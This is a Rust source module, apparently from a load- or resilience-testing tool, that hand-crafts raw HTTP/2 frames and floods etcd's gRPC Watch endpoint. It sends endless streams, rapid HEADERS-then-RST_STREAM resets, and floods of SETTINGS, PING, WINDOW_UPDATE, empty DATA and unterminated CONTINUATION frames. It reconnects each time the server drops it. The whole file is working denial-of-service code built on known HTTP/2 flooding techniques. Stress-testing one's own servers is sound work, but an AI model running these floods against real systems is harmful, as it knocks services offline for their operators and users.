//! Connections by hand: what HTTP/2 lets a client send, without end.

use std::{
    sync::{Arc, atomic::Ordering},
    time::Duration,
};

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    time,
};

use super::catalogue::Counts;
use crate::client::{Stream, Target};

/// What a connection is flooded with.
#[derive(Clone, Copy, Debug)]
pub(super) enum Kind {
    /// Calls whose requests do not end.
    Streams,
    /// Calls that are taken back at once.
    Resets,
    Settings,
    Pings,
    WindowUpdates,
    EmptyData,
    /// A head that does not end.
    Continuations,
}

/// Everything but calls.
pub(super) const FRAMES: [Kind; 5] =
    [Kind::Settings, Kind::Pings, Kind::WindowUpdates, Kind::EmptyData, Kind::Continuations];

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// Frames that are written at once.
const BATCH: u32 = 256;

/// Floods one connection after the other, each for as long as the server bears it.
pub(super) async fn flood(target: Target, kinds: &[Kind], counts: Arc<Counts>) {
    for kind in kinds.iter().cycle() {
        match target.dial_ready().await {
            Ok(stream) => {
                let _ = send(stream, *kind, &counts).await;
                counts.refused.fetch_add(1, Ordering::Relaxed);
            }
            Err(_) => {
                counts.failed.fetch_add(1, Ordering::Relaxed);
            }
        }
        time::sleep(Duration::from_millis(100)).await;
    }
}

/// Returns when the server has ended the connection.
async fn send(stream: Stream, kind: Kind, counts: &Counts) -> std::io::Result<()> {
    let (mut reader, mut writer) = tokio::io::split(stream);
    // Who does not read is only stopped by it.
    let drain = async {
        let mut buffer = vec![0; 64 << 10];
        while reader.read(&mut buffer).await? > 0 {}
        Ok(())
    };
    let flood = async {
        writer.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
        writer.write_all(&frame(SETTINGS, 0, 0, &[])).await?;
        writer.write_all(&begin(kind)).await?;
        for n in 0.. {
            let frames: Vec<u8> = (n * BATCH..(n + 1) * BATCH).flat_map(|n| next(kind, n)).collect();
            writer.write_all(&frames).await?;
            counts.done.fetch_add(BATCH.into(), Ordering::Relaxed);
        }
        Ok(())
    };
    tokio::select! {
        end = flood => end,
        end = drain => end,
    }
}

/// What comes before the flood.
fn begin(kind: Kind) -> Vec<u8> {
    match kind {
        Kind::EmptyData => head(END_HEADERS, 1),
        Kind::Continuations => head(END_STREAM, 1),
        _ => Vec::new(),
    }
}

fn next(kind: Kind, n: u32) -> Vec<u8> {
    let stream = n.wrapping_mul(2).wrapping_add(1) & 0x7fff_ffff;
    match kind {
        Kind::Streams => head(END_HEADERS, stream),
        Kind::Resets => [head(END_HEADERS | END_STREAM, stream), frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat(),
        Kind::Settings => frame(SETTINGS, 0, 0, &[]),
        Kind::Pings => frame(PING, 0, 0, &[7; 8]),
        Kind::WindowUpdates => frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]),
        Kind::EmptyData => frame(DATA, 0, 1, &[]),
        Kind::Continuations => frame(CONTINUATION, 0, 1, &[]),
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, a, b, c] = u32::try_from(payload.len()).expect("a short payload").to_be_bytes();
    let mut frame = vec![a, b, c, kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// The head of a call of Watch, whose answer goes on for as long as its request does.
fn head(flags: u8, stream: u32) -> Vec<u8> {
    let mut block = vec![0x83, 0x86]; // POST and http, from the static table
    for (name, value) in
        [(&[0x04][..], "/etcdserverpb.Watch/Watch"), (&[0x01], "etcd"), (&[0x0f, 0x10], "application/grpc")]
    {
        // Of the static table only the name, without Huffman codes, kept in no table.
        block.extend(name);
        block.push(u8::try_from(value.len()).expect("a short value"));
        block.extend(value.as_bytes());
    }
    frame(HEADERS, flags, stream, &block)
}
